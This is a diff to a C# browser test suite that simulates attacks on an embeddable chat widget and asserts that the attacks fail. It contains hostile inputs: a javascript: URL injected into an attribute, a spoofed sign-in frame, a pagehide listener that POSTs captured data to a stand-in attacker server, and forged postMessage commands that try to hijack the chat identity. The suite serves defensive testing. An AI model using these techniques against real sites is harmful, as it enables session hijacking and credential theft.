@@ -46,7 +46,7 @@ public sealed class BridgeAttackTests(ChromiumFixture chromium)
         await using var site = await HostSite.Start();
         await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
         await using var alva = await Person.Open(chromium.Browser, site.Page("/", HostPages.With(relay.Address, "<piper-chat relay='javascript:window.ran=1'></piper-chat>")));
-        await alva.Page.WaitForFunctionAsync("customElements.get('piper-chat')");
+        await alva.Page.WaitForFunctionAsync("!!customElements.get('piper-chat')");
 
         await alva.Page.EvaluateAsync("document.querySelector('piper-chat').open().catch(() => {})");
 
@@ -68,12 +68,15 @@ public sealed class BridgeAttackTests(ChromiumFixture chromium)
 
         await HostPages.FrameOf(alva.Page, relay.Address).EvaluateAsync($"setTimeout(() => {{ location.href = '{falseFrame}'; }})");
         await alva.Page.FrameLocator("piper-chat iframe").GetByText("Sign in here").WaitForAsync();
+        var frame = alva.Page.Frames.Single(each => each.Url == falseFrame.ToString());
+        // The page learns that the chat has gone; the frame is looked at just before it is taken away.
+        await frame.EvaluateAsync("addEventListener('pagehide', () => fetch('/caught', { method: 'POST', keepalive: true, body: JSON.stringify(caught) }))");
         var outcome = await alva.Page.EvaluateAsync<string>(
             "(keys) => document.querySelector('piper-chat').setIdentity({ ...keys, username: 'alva' }).then(() => 'taken', ({ message }) => message)", keys);
 
         Assert.Equal("unreachable", outcome);
-        var frame = alva.Page.Frames.FirstOrDefault(each => each.Url.StartsWith(evil.Origin, StringComparison.Ordinal));
-        var caught = frame is null ? "" : await frame.EvaluateAsync<string>("JSON.stringify(caught)");
+        await evil.Posts.WaitAsync(TestContext.Current.CancellationToken);
+        var caught = evil.Posted.Single();
         Assert.All(keys.Values, key => Assert.DoesNotContain(key[..64], caught, StringComparison.Ordinal));
         Assert.DoesNotContain("set-identity", caught, StringComparison.Ordinal);
         // Nor is it believed.
@@ -133,17 +136,17 @@ public sealed class BridgeAttackTests(ChromiumFixture chromium)
 
         await other.EvaluateAsync(
             """
-            ([keys, origin]) => {
-              for (let i = 0; i < parent.frames.length; i++) {
-                const { port1, port2 } = new MessageChannel();
-                port1.onmessage = ({ data }) => caught.push(data);
-                for (const command of [{ type: "piperchat:hello", v: 1 }, { type: "piperchat:set-channel", channel: "elsewhere", id: 9 }, { type: "piperchat:set-identity", username: "mallory", ...keys }, { type: "piperchat:logout", id: 8 }])
-                  parent.frames[i].postMessage(command, "*", i === 0 ? [port2] : []);
-              }
+            (keys) => {
+              for (let i = 0; i < parent.frames.length; i++)
+                for (const command of [{ type: "piperchat:hello", v: 1 }, { type: "piperchat:set-channel", channel: "elsewhere", id: 9 }, { type: "piperchat:set-identity", username: "mallory", ...keys }, { type: "piperchat:logout", id: 8 }]) {
+                  const { port1, port2 } = new MessageChannel();
+                  port1.onmessage = ({ data }) => caught.push(data);
+                  parent.frames[i].postMessage(command, "*", [port2]);
+                }
               parent.postMessage({ type: "piperchat:unread", total: 7, byChannel: {} }, "*");
             }
             """,
-            new object[] { keys, relay.Address.ToString() });
+            keys);
 
         // What the page itself says next has come after all of that.
         await alva.Page.EvaluateAsync("document.querySelector('piper-chat').setTheme({ theme: 'dark' })");
